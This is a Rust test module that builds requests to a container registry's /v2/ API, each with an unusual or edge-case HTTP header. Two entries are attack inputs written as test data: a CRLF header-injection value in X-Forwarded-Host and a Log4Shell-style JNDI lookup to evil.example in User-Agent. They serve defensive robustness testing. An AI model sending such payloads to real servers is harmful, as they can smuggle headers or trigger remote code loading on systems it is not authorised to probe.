//! Headers that clients, browsers, proxies and nobody send.

use super::Script;

/// Names of requests, with the header that each has.
const HEADERS: &[(&str, &str, &str)] = &[
    ("forwarded-proto", "X-Forwarded-Proto", "https"),
    ("forwarded-host", "X-Forwarded-Host", "registry.example.org"),
    (
        "forwarded-both",
        "Forwarded",
        "for=192.0.2.1;proto=https;host=registry.example.org",
    ),
    (
        "forwarded-for",
        "X-Forwarded-For",
        "192.0.2.1, 198.51.100.1",
    ),
    (
        "forwarded-hostile",
        "X-Forwarded-Host",
        "evil.example/%0d%0aX: y",
    ),
    ("real-ip", "X-Real-IP", "192.0.2.1"),
    ("origin", "Origin", "https://ui.example.org"),
    (
        "authorization",
        "Authorization",
        "Basic dXNlcjpwYXNzd29yZA==",
    ),
    (
        "authorization-bearer",
        "Authorization",
        "Bearer abc.def.ghi",
    ),
    ("authorization-odd", "Authorization", "nonsense"),
    ("authorization-empty", "Authorization", ""),
    ("cookie", "Cookie", "a=b"),
    ("agent", "User-Agent", "docker/28.2.2 go/go1.24.3"),
    (
        "agent-hostile",
        "User-Agent",
        "${jndi:ldap://evil.example/a}",
    ),
    ("upgrade", "Upgrade", "websocket"),
    ("upgrade-h2c", "Upgrade", "h2c"),
    ("method-override", "X-HTTP-Method-Override", "DELETE"),
    ("original-url", "X-Original-URL", "/v2/_catalog"),
    ("content-encoding", "Content-Encoding", "gzip"),
    ("trailer", "Trailer", "Expires"),
    ("te", "TE", "trailers"),
    ("not-ascii", "X-Name", "ä"),
    ("cache", "Cache-Control", "no-cache"),
    (
        "docker-version",
        "Docker-Distribution-Api-Version",
        "registry/1.0",
    ),
    ("request-id", "X-Request-Id", "42"),
];

pub fn add(script: &mut Script) {
    let long = "x".repeat(8000);
    for (name, header, value) in HEADERS.iter().chain(&[("long", "X-Long", long.as_str())]) {
        script
            .get(&format!("{name}-get"), "/v2/")
            .header(header, value);
        script
            .ask(
                &format!("{name}-post"),
                "POST",
                "/v2/head/app/blobs/uploads/",
            )
            .header(header, value);
    }
    let preflight = script.ask("preflight", "OPTIONS", "/v2/head/app/manifests/v1");
    preflight
        .header("Origin", "https://ui.example.org")
        .header("Access-Control-Request-Method", "DELETE");
    script.get("ping-body", "/v2/").body(b"{}");
    script.get("ping-chunked", "/v2/").chunked(b"{}");
}
